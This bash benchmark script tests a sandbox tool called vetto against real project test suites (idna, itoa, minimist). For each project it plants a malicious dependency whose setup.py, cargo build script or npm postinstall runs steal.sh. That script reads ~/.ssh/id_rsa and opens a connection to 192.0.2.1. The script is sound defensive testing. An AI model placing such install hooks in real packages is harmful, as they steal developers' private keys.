#!/usr/bin/env bash
# The verdict on real projects (issue P10): open-source projects' own test
# suites, fetched through the registries, run bare and under `vetto ci`
# with zero flags at FULL and at FS-ONLY — the same exit status as bare
# and zero violations is the bar — then each again with a malicious
# dependency added (it reads ~/.ssh/id_rsa and connects out), whose
# attempt must be recorded with its package at both tiers.
#
#   benches/corpus.sh        # builds --release; runs as the calling user
#
# The only options passed are this machine's registry pins: where a
# registry's name resolves to a reserved address (as on vetto's CI
# machines), `--resolve NAME:ADDR` — the rule vetto's own advice names.
set -euo pipefail
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
bench_vetto
bench_scratch /tmp/vetto-corpus.XXXXXX
v="$scratch/vetto"
pins=()
for name in registry.npmjs.org pypi.org files.pythonhosted.org index.crates.io static.crates.io; do
    addr=$(getent ahostsv4 "$name" | awk 'NR==1 {print $1}')
    [[ -n $addr ]] && pins+=(--resolve "$name:$addr")
done
# The malicious dependencies reach for ~/.ssh/id_rsa (masked by the
# default policy, whether or not it exists) and connect out.
fetch() { # name → unpacked project directory
    local d="$scratch/$1"
    mkdir -p "$d" && cd "$d"
    case $1 in
        idna) pip download -q --no-binary :all: --no-deps idna==3.10 -d . && tar xzf idna-3.10.tar.gz && mv idna-3.10 p ;;
        itoa) curl -sSfL https://static.crates.io/crates/itoa/itoa-1.0.11.crate | tar xz && mv itoa-1.0.11 p ;;
        minimist) npm pack -q minimist@1.2.8 >/dev/null && tar xzf minimist-1.2.8.tgz && mv package p ;;
    esac
    # Committed, so that `git clean` between runs removes only what a run
    # made (and `git checkout` undoes a malicious dependency's edits).
    cd p && git init -q && git add -A && git -c user.name=bench -c user.email=bench@localhost commit -qm project
    echo "$d/p"
}

job() { # name → the test command
    case $1 in
        idna) echo 'python3 -m unittest discover -s tests -q' ;;
        itoa) echo 'cargo test -q' ;;
        minimist) echo 'npm install --no-save --no-audit --no-fund tape@5.9.0 && npx tape "test/*.js"' ;;
    esac
}

evil() { # name → add a malicious dependency to the project in cwd
    # What each one runs: read the key, connect out.
    steal() {
        mkdir -p "$1"
        printf '%s\n' 'cat ~/.ssh/id_rsa' '(exec 3<>/dev/tcp/192.0.2.1/443) 2>/dev/null' >"$1/steal.sh"
    }
    case $1 in
        idna) # an sdist whose setup.py pip runs
            steal evil-1.0 && printf 'Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n' >evil-1.0/PKG-INFO
            printf 'import os\nos.system("bash steal.sh")\nfrom setuptools import setup\nsetup(name="evil", version="1.0")\n' >evil-1.0/setup.py
            echo 'python3 -m venv --system-site-packages .venv && .venv/bin/pip install -q --no-index --no-build-isolation --no-cache-dir ./evil-1.0 && .venv/bin/python -m unittest discover -s tests -q' ;;
        itoa) # a path dependency with a build script
            steal evil && mkdir -p evil/src && printf '[package]\nname = "evil"\nversion = "1.0.0"\nedition = "2021"\n' >evil/Cargo.toml
            : >evil/src/lib.rs
            printf 'fn main() { let _ = std::process::Command::new("bash").arg(concat!(env!("CARGO_MANIFEST_DIR"), "/steal.sh")).status(); }\n' >evil/build.rs
            printf '\n[dev-dependencies]\nevil = { path = "evil" }\n' >>Cargo.toml
            echo 'cargo test -q' ;;
        minimist) # a local package with a postinstall
            # (packed, as the registry serves it: a local directory would be
            # linked into node_modules, not copied)
            steal evil && printf '{"name":"evil","version":"1.0.0","scripts":{"postinstall":"bash steal.sh"}}\n' >evil/package.json
            (cd evil && npm pack -q >/dev/null 2>&1)
            echo 'npm install --no-save --no-audit --no-fund ./evil/evil-1.0.0.tgz tape@5.9.0 && npx tape "test/*.js"' ;;
    esac
}

ms() { date +%s%3N; }
violations() { grep -c '"type":"violation"' "$1/session.jsonl" 2>/dev/null || true; }

printf '| project | bare | full | fs-only | time full / bare | time fs-only / bare |\n|---|---|---|---|---:|---:|\n'
for name in idna itoa minimist; do
    p=$(fetch "$name")
    cmd=$(job "$name")
    cd "$p"
    t0=$(ms); set +e; bash -c "$cmd" >/dev/null 2>&1; bare=$?; set -e; t1=$(ms)
    git clean -qfdx
    row="| $name | exit $bare |"
    times=""
    for tier in full fs-only; do
        r="$scratch/r-$name-$tier"
        t2=$(ms); set +e; "$v" ci --tier "$tier" "${pins[@]}" --report-dir "$r" -- bash -c "$cmd" >/dev/null 2>&1; got=$?; set -e; t3=$(ms)
        git clean -qfdx
        row+=" exit $got, $(violations "$r") violation(s) |"
        times+=" $(awk -v a=$((t3 - t2)) -v b=$((t1 - t0)) 'BEGIN {printf "%.2f", a / b}') |"
    done
    echo "$row$times"
done
printf '\n| project + malicious dependency | full | fs-only |\n|---|---|---|\n'
for name in idna itoa minimist; do
    cd "$scratch/$name/p"
    cmd=$(evil "$name")
    row="| $name |"
    for tier in full fs-only; do
        r="$scratch/e-$name-$tier"
        set +e; out=$("$v" ci --tier "$tier" "${pins[@]}" --report-dir "$r" -- bash -c "$cmd" 2>&1); set -e
        leaked=$(grep -c 'PRIVATE KEY' <<<"$out" || true)
        by=$(grep '"type":"violation"' "$r/session.jsonl" 2>/dev/null | grep -c '"name":"evil"' || true)
        row+=" $(violations "$r") violation(s), $by with the package, key leaked: $leaked |"
        # What the run built, so the next tier's run builds (and runs the
        # dependency's code) again.
        rm -rf target Cargo.lock node_modules package-lock.json .venv
    done
    echo "$row"
    git checkout -q -- . && git clean -qfdx
done
